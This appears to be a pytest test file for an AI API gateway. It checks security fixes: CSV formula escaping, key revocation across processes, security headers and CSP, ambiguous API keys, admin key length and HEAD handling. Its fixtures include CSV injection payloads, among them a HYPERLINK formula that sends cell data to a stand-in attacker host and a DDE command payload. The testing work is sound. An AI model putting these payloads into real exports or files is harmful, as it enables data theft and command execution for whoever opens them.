"""The smaller holes of issue 10, each reproduced over real HTTP: formulas in the CSV export,
revocation seen late by other processes (now: at once by its own, by others within the snapshot
refresh), missing security headers, two keys in one request, a short admin key, HEAD answered 405."""
from __future__ import annotations

import csv
import io
import os
import re
import sqlite3
import subprocess
import sys
import time

import httpx
import pytest

from tests.support.gateway import ROOT, create_key, seen_within_refresh, start_gateway

SECURITY = {
    "x-content-type-options": "nosniff",
    "x-frame-options": "DENY",
    "referrer-policy": "no-referrer",
}


def _bearer(key: str) -> dict[str, str]:
    return {"authorization": f"Bearer {key}"}


# -- 1. CSV export: no cell a spreadsheet would run ---------------------------------------------

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\uff1d")  # what spreadsheets run or mangle
HOSTILE = ['=HYPERLINK("http://evil.example/?d="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
           "\tstarts-with-tab", "\rstarts-with-cr", "\uff1dfull-width"]


def _insert_hostile_calls(db_path, account_id: str, key_id: str) -> None:
    now = int(time.time() * 1000)
    with sqlite3.connect(db_path) as db:
        db.executemany(
            "INSERT INTO model_calls (request_id, created_at, account_id, key_id, type, provider, model,"
            " requested_model, status, error_code, error) VALUES (?, ?, ?, ?, 'chat', ?, ?, ?, 'failed', ?, ?)",
            [(f"req_csv_{i}", now - i, account_id, key_id, value, value, value, value, value)
             for i, value in enumerate(HOSTILE)])


def test_csv_export_defuses_formula_cells(gateway, admin, user):
    _insert_hostile_calls(gateway.db_path, user["account_id"], user["id"])
    exports = [httpx.get(gateway.url + "/v1/usage/calls.csv", params={"from": "0"}, headers=_bearer(user["key"])),
               admin.get("/admin/usage/calls.csv", params={"from": "0", "account_id": user["account_id"]})]
    for export in exports:
        assert export.status_code == 200, export.text
        rows = list(csv.DictReader(io.StringIO(export.text, newline="")))
        hostile = {r["request_id"]: r for r in rows if r["request_id"].startswith("req_csv_")}
        assert len(hostile) == len(HOSTILE)
        for row in rows:
            assert not [v for v in row.values() if v and v.startswith(FORMULA_STARTS)], row
        for i, value in enumerate(HOSTILE):
            row = hostile[f"req_csv_{i}"]
            for column in ("provider", "model", "requested_model", "error_code", "error"):
                assert row[column] == "'" + value, (column, row[column])


# -- 2. revocation and limit changes: this process at once, every other within the refresh ------

@pytest.fixture(scope="module")
def second_gateway(gateway, fake, tmp_path_factory):
    """Another `aihub serve` process on the same database file, as a second worker would be."""
    from tests.support.gateway import upstream_env

    other = start_gateway(tmp_path_factory.mktemp("second"), upstream_env(fake.base_url), db_path=gateway.db_path)
    yield other
    other.stop()


@pytest.mark.parametrize("change", ["revoke", "expire"])
def test_key_change_is_refused_by_its_process_at_once_and_by_another_within_the_refresh(
        gateway, admin, second_gateway, change):
    key = create_key(admin)
    for gw in (gateway, second_gateway):
        for _ in range(3):  # each process now holds the key in its cache
            assert httpx.get(gw.url + "/v1/models", headers=_bearer(key["key"])).status_code == 200
    if change == "revoke":
        assert admin.delete(f"/admin/keys/{key['id']}").status_code == 200
    else:
        assert admin.patch(f"/admin/keys/{key['id']}", json={"expires_at": 1}).status_code == 200
    assert httpx.get(gateway.url + "/v1/models", headers=_bearer(key["key"])).status_code == 401
    seen_within_refresh(lambda: httpx.get(second_gateway.url + "/v1/models",
                                          headers=_bearer(key["key"])).status_code == 401)


# -- 3. security headers on every response of the streaming front ---------------------------------

def test_every_answer_carries_the_security_headers(gateway, user):
    key = _bearer(user["key"])
    answers = {
        "health": httpx.get(gateway.url + "/health"),
        "api": httpx.get(gateway.url + "/v1/models", headers=key),
        "401": httpx.get(gateway.url + "/v1/models"),
        "404": httpx.get(gateway.url + "/no/such/route"),
        "405": httpx.delete(gateway.url + "/v1/models", headers=key),
        "413-or-error": httpx.post(gateway.url + "/v1/chat/completions", headers=key, content=b"{"),
        "stream": httpx.post(gateway.url + "/v1/chat/completions", headers=key, json={
            "model": "demo/echo", "messages": [{"role": "user", "content": "hi"}], "stream": True}),
        "ui": httpx.get(gateway.url + "/"),
        "asset 404": httpx.get(gateway.url + "/assets/missing.js"),
    }
    for name, response in answers.items():
        for header, value in SECURITY.items():
            assert response.headers.get(header) == value, (name, header)
        assert "frame-ancestors 'none'" in response.headers["content-security-policy"], name
    api_policy = answers["api"].headers["content-security-policy"]
    assert "default-src 'none'" in api_policy


def test_web_ui_runs_under_its_policy_without_inline_script(gateway):
    page = httpx.get(gateway.url + "/")
    policy = page.headers["content-security-policy"]
    assert "script-src 'self'" in policy and "unsafe-inline" not in policy and "unsafe-eval" not in policy
    scripts = re.findall(r"<script\b([^>]*)>(.*?)</script>", page.text, flags=re.S)
    assert all("src=" in attributes and not body.strip() for attributes, body in scripts), scripts
    assert not re.search(r"<[^>]+\son\w+\s*=", page.text), "inline event handlers are inline script too"


# -- 5. two keys in one request -----------------------------------------------------------------

@pytest.mark.parametrize("headers", [
    [("authorization", "Bearer {mine}"), ("authorization", "Bearer {other}")],
    [("authorization", "Bearer {mine}"), ("authorization", "Bearer {mine}")],
    [("x-api-key", "{mine}"), ("x-api-key", "{other}")],
    [("authorization", "Bearer {mine}"), ("x-api-key", "{other}")],
], ids=["two-authorization", "same-key-twice", "two-x-api-key", "authorization-and-other-x-api-key"])
def test_two_keys_in_one_request_are_refused(gateway, admin, user, headers):
    other = create_key(admin)["key"]
    sent = [(name, value.format(mine=user["key"], other=other)) for name, value in headers]
    response = httpx.get(gateway.url + "/v1/models", headers=sent)
    assert response.status_code == 400, response.text
    assert response.json()["error"]["code"] == "ambiguous_api_key"


def test_the_same_key_in_authorization_and_x_api_key_is_one_key(gateway, user):
    response = httpx.get(gateway.url + "/v1/models",
                         headers={"authorization": f"Bearer {user['key']}", "x-api-key": user["key"]})
    assert response.status_code == 200


# -- 6. a short admin key stops `aihub serve` -----------------------------------------------------

def test_serve_refuses_a_short_admin_key(tmp_path):
    env = {k: v for k, v in os.environ.items() if not k.startswith("AIHUB_")}
    env.update(AIHUB_ADMIN_KEY="abc", AIHUB_DB=str(tmp_path / "aihub.db"), AIHUB_PORT="1")
    done = subprocess.run([sys.executable, "-m", "chalicelib.cli", "serve"], cwd=ROOT, env=env,
                          capture_output=True, text=True, timeout=60, check=False)
    assert done.returncode != 0
    (line,) = done.stderr.strip().splitlines()
    assert "AIHUB_ADMIN_KEY" in line and "32" in line
    assert not (tmp_path / "aihub.db").exists()


# -- 8. HEAD wherever GET is routed -------------------------------------------------------------

@pytest.mark.parametrize("path", ["/health", "/v1/models", "/", "/admin/usage/calls.csv"])
def test_head_answers_like_get_without_a_body(gateway, admin, path):
    got = admin.get(path, headers={"accept-encoding": "identity"})
    head = admin.head(path, headers={"accept-encoding": "identity"})
    assert head.status_code == got.status_code == 200
    assert head.content == b""
    assert head.headers["content-type"] == got.headers["content-type"]
    assert head.headers["x-content-type-options"] == "nosniff" and head.headers["x-request-id"]
    if "content-length" in got.headers:
        assert head.headers["content-length"] == got.headers["content-length"]


def test_head_where_no_get_is_routed_is_405(gateway, admin):
    response = admin.head("/v1/chat/completions")
    assert response.status_code == 405 and response.content == b""
    assert "POST" in response.headers["allow"]
